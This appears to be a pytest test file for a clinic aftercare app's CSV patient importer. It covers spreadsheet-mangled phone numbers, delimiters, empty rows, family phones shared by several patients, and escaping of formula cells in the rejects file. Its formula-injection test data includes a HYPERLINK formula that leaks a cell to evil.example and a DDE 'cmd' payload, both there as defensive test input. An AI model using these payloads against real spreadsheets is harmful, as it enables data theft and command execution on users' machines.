"""CSV import as spreadsheets write it: phone columns saved as numbers, semicolon or tab separated files,
empty rows under the data, formula cells in the rejects file, and family phones that carry several people.

All numbers and names are made up.
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from aftercare.db import session_scope
from aftercare.importer import csv_cell
from aftercare.models import Enrollment, Patient, ScheduledMessage
from tests.cli_helpers import add_clinic, cli_json, enroll, run_cli

HEADER = ["first_name", "phone", "email", "timezone", "language", "treatment", "treated_at", "sms_consent",
          "email_consent"]
TREATED = (datetime.now(UTC) - timedelta(minutes=5)).replace(microsecond=0).isoformat()  # a session just ended


def _row(first_name: str = "Ayu", phone: str = "+6281200000001", treatment: str = "mesotherapy",
         treated_at: str = TREATED, email: str = "", language: str = "id") -> list[str]:
    return [first_name, phone, email, "", language, treatment, treated_at, "", ""]


def _write(path: Path, rows: list[list[str]], *, delimiter: str = ",", header: list[str] = HEADER,
           encoding: str = "utf-8", tail: str = "") -> Path:
    with open(path, "w", newline="", encoding=encoding) as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(header)
        writer.writerows(rows)
        handle.write(tail)
    return path


def _count(model) -> int:
    with session_scope() as session:
        return session.scalar(select(func.count()).select_from(model))


def _rejects(report: dict) -> list[dict[str, str]]:
    with open(report["reject_file"], newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _patients() -> list[tuple[str, str, str]]:
    with session_scope() as session:
        return sorted(tuple(row) for row in session.execute(select(Patient.phone, Patient.first_name, Patient.language)))


def _owners() -> list[tuple[str, str]]:
    """(first name, treatment) of every enrollment."""
    with session_scope() as session:
        return sorted(tuple(row) for row in session.execute(select(Patient.first_name, Enrollment.treatment)
                                                             .join(Enrollment)))


# -- phone numbers ------------------------------------------------------------------------------------------------
SPREADSHEET_PHONES = ["628123456789.0", "6.28123E+11", "6,28123E+11", "6.28123456789E+11", "81234567890.0",
                      "6.2812E+12"]


def test_phone_cells_saved_as_numbers_are_rejected_with_a_reason_and_the_rest_imported(any_env, tmp_path):
    add_clinic()
    rows = [_row(f"Pat{i}", phone) for i, phone in enumerate(SPREADSHEET_PHONES)] + [_row("Budi", "+6281200000002")]
    report = cli_json("import", str(_write(tmp_path / "p.csv", rows)), "--clinic", "glow")
    assert (report["imported"], report["rejected"]) == (1, len(SPREADSHEET_PHONES))
    rejected = _rejects(report)
    assert all("spreadsheet" in r["reason"] and r["phone"] not in r["reason"] for r in rejected), rejected
    assert [r["phone"] for r in rejected] == SPREADSHEET_PHONES
    assert _patients() == [("+6281200000002", "Budi", "id")]


def test_a_semicolon_file_with_comma_decimals_rejects_the_exponent_phone(env, tmp_path):
    add_clinic()
    path = _write(tmp_path / "p.csv", [_row("Ayu", "6,28123E+11"), _row("Budi", "081200000002")], delimiter=";")
    report = cli_json("import", str(path), "--clinic", "glow")
    assert (report["imported"], report["rejected"]) == (1, 1)
    assert "spreadsheet" in _rejects(report)[0]["reason"]


@pytest.mark.parametrize("typed, stored", [("62811123456", "+62811123456"), ("6281200000003", "+6281200000003"),
                                           ("62 217 654 321", "+62217654321")])
def test_an_imported_number_with_the_country_code_but_no_plus_gets_it_once(env, tmp_path, typed, stored):
    add_clinic()
    cli_json("import", str(_write(tmp_path / "p.csv", [_row("Ayu", typed)])), "--clinic", "glow")
    assert _patients() == [(stored, "Ayu", "id")]


# -- delimiters, BOM and empty rows -------------------------------------------------------------------------------
@pytest.mark.parametrize("delimiter", [";", "\t", "|", ","], ids=["semicolon", "tab", "bar", "comma"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"], ids=["plain", "bom"])
def test_a_file_separated_by_semicolons_tabs_or_bars_imports_like_a_comma_file(any_env, tmp_path, delimiter, encoding):
    add_clinic()
    rows = [_row("Ayu", "+6281200000001"), _row("Budi, Jr.", "081200000002"), _row("Citra; S", "+6281200000003")]
    path = _write(tmp_path / "p.csv", rows, delimiter=delimiter, encoding=encoding)
    report = cli_json("import", str(path), "--clinic", "glow")
    assert (report["imported"], report["rejected"]) == (3, 0), report
    assert sorted(name for _, name, _ in _patients()) == ["Ayu", "Budi, Jr.", "Citra; S"]


def test_a_semicolon_file_with_the_header_in_another_order_and_extra_columns_imports(env, tmp_path):
    add_clinic()
    header = ["notes", "treated_at", "treatment", "phone", "first_name"]
    path = _write(tmp_path / "p.csv", [["x", TREATED, "mesotherapy", "+6281200000001", "Ayu"]], delimiter=";",
                  header=header)
    assert cli_json("import", str(path), "--clinic", "glow")["imported"] == 1


def test_a_semicolon_file_missing_a_column_names_that_column(env, tmp_path):
    add_clinic()
    path = _write(tmp_path / "p.csv", [["Ayu", "+6281200000001", "mesotherapy"]], delimiter=";",
                  header=["first_name", "phone", "treatment"])
    result = run_cli("import", str(path), "--clinic", "glow")
    assert result.exit_code == 1 and "missing column(s) treated_at;" in result.stderr


@pytest.mark.parametrize("delimiter, tail", [
    (";", ";;;;;;;;\r\n;;;;;;;;\r\n"),
    (",", ",,,,,,,,\r\n,,,,,,,,\r\n\r\n"),
    (",", ", , ,,,,,,\r\n"),  # cells of spaces only
    (";", ";;;;;;;;;;;;\r\n"),  # more empty cells than columns
    ("\t", "\t\t\t\t\t\t\t\t\r\n"),
], ids=["semicolons", "commas", "spaces", "too-many", "tabs"])
def test_trailing_all_empty_rows_are_skipped_not_rejected(env, tmp_path, delimiter, tail):
    add_clinic()
    path = _write(tmp_path / "p.csv", [_row("Ayu"), _row("Budi", "+6281200000002")], delimiter=delimiter, tail=tail)
    report = cli_json("import", str(path), "--clinic", "glow")
    assert (report["imported"], report["rejected"], report["reject_file"]) == (2, 0, None)


def test_an_empty_row_between_data_rows_is_skipped_too(env, tmp_path):
    add_clinic()
    path = _write(tmp_path / "p.csv", [_row("Ayu"), [""] * 9, _row("Budi", "+6281200000002")], delimiter=";")
    report = cli_json("import", str(path), "--clinic", "glow")
    assert (report["imported"], report["rejected"]) == (2, 0)


# -- formula cells in the rejects file -----------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1", "+6281200000001 =2"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_written_as_text(value):
    assert csv_cell(value) == "'" + value[:200]


@pytest.mark.parametrize("value", ["Ayu", "O'Brien", "Ayu-Sari", "2026-11-25T10:00:00+07:00", "", "3", None])
def test_an_ordinary_cell_is_written_as_it_is(value):
    assert csv_cell(value) == ("" if value is None else value)


def test_the_rejects_file_never_holds_a_cell_a_spreadsheet_would_run(any_env, tmp_path):
    add_clinic()
    rows = [
        _row('=HYPERLINK("http://evil.example/","x")', "12345"),
        _row("Ayu", "+cmd|' /C calc'!A0"),
        _row("-2+3", "12345"),
        _row("@SUM(A1:A9)", "12345"),
        _row("Ayu", "+6281200000001", treatment="=1+1"),
        _row("Ayu", "+6281200000001", treated_at="-1"),
        _row("Ayu", "+6281200000001", email="@evil.example"),
        _row("\t=1+1", "12345"),
    ]
    report = cli_json("import", str(_write(tmp_path / "p.csv", rows)), "--clinic", "glow")
    assert report["rejected"] == len(rows)
    with open(report["reject_file"], newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rejected = _rejects(report)
    assert rejected[0]["first_name"] == "'" + rows[0][0] and rejected[1]["phone"] == "'" + rows[1][1]


# -- a family phone ---------------------------------------------------------------------------------------------------
def test_two_people_on_one_phone_become_two_patients_with_their_own_enrollments(any_env, tmp_path):
    add_clinic()
    rows = [_row("Sari", "+6281200000001", language="id", email="sari@example.com"),
            _row("Putri", "+6281200000001", language="en", email="putri@example.com"),
            _row("Putri", "+6281200000001", treatment="dermal-filler", language="en")]
    path = _write(tmp_path / "p.csv", rows)
    first = cli_json("import", str(path), "--clinic", "glow")
    assert (first["imported"], first["already_present"]) == (3, 0)
    assert _patients() == [("+6281200000001", "Putri", "en"), ("+6281200000001", "Sari", "id")]
    with session_scope() as session:
        emails = {name: email for name, email in session.execute(select(Patient.first_name, Patient.email))}
    assert _owners() == [("Putri", "dermal-filler"), ("Putri", "mesotherapy"), ("Sari", "mesotherapy")]
    assert emails == {"Sari": "sari@example.com", "Putri": "putri@example.com"}
    messages = _count(ScheduledMessage)
    again = cli_json("import", str(path), "--clinic", "glow")
    assert (again["imported"], again["already_present"]) == (0, 3)
    assert _count(Patient) == 2 and _count(Enrollment) == 3 and _count(ScheduledMessage) == messages


def test_one_first_name_in_other_case_or_spacing_is_the_same_patient(any_env, tmp_path):
    add_clinic()
    rows = [_row("Putri", "+6281200000001"), _row(" PUTRI ", "081200000001", treatment="dermal-filler"),
            _row("putri", "+6281200000001")]
    report = cli_json("import", str(_write(tmp_path / "p.csv", rows)), "--clinic", "glow")
    assert (report["imported"], report["already_present"]) == (2, 1)
    assert _patients() == [("+6281200000001", "Putri", "id")]
    assert _count(Enrollment) == 2


def test_a_family_member_imported_after_another_was_enrolled_by_hand_is_a_new_patient(any_env, tmp_path):
    add_clinic()
    enroll(first_name="Sari", phone="+6281200000001", treated_at=TREATED, treatment="mesotherapy")
    rows = [_row("sari", "+6281200000001"), _row("Dewi", "+6281200000001")]
    dry = cli_json("import", str(_write(tmp_path / "p.csv", rows)), "--clinic", "glow", "--dry-run")
    assert (dry["imported"], dry["already_present"]) == (1, 1)
    report = cli_json("import", str(tmp_path / "p.csv"), "--clinic", "glow")
    assert (report["imported"], report["already_present"]) == (1, 1)
    assert sorted(name for _, name, _ in _patients()) == ["Dewi", "Sari"]


def test_a_family_phone_spread_over_two_batches_keeps_its_people_apart(env, tmp_path, monkeypatch):
    monkeypatch.setattr("aftercare.importer.BATCH_SIZE", 2)
    add_clinic()
    rows = [_row("Sari", "+6281200000001"), _row("Budi", "+6281200000002"), _row("Putri", "+6281200000001"),
            _row("Sari", "+6281200000001", treatment="dermal-filler")]
    report = cli_json("import", str(_write(tmp_path / "p.csv", rows)), "--clinic", "glow")
    assert report["imported"] == 4
    assert sorted(name for _, name, _ in _patients()) == ["Budi", "Putri", "Sari"]
    assert _owners() == [("Budi", "mesotherapy"), ("Putri", "mesotherapy"), ("Sari", "dermal-filler"),
                         ("Sari", "mesotherapy")]


def test_header_names_are_read_whatever_their_case_or_spacing(any_env, tmp_path):
    from tests.cli_helpers import add_clinic, cli_json

    add_clinic()
    path = tmp_path / "excel.csv"
    path.write_text("First Name;Phone;TREATMENT;Treated_At\nSari;+6281234567891;chemical-peel;2026-11-20T10:00:00+07:00\n")
    assert cli_json("import", str(path), "--clinic", "glow")["imported"] == 1
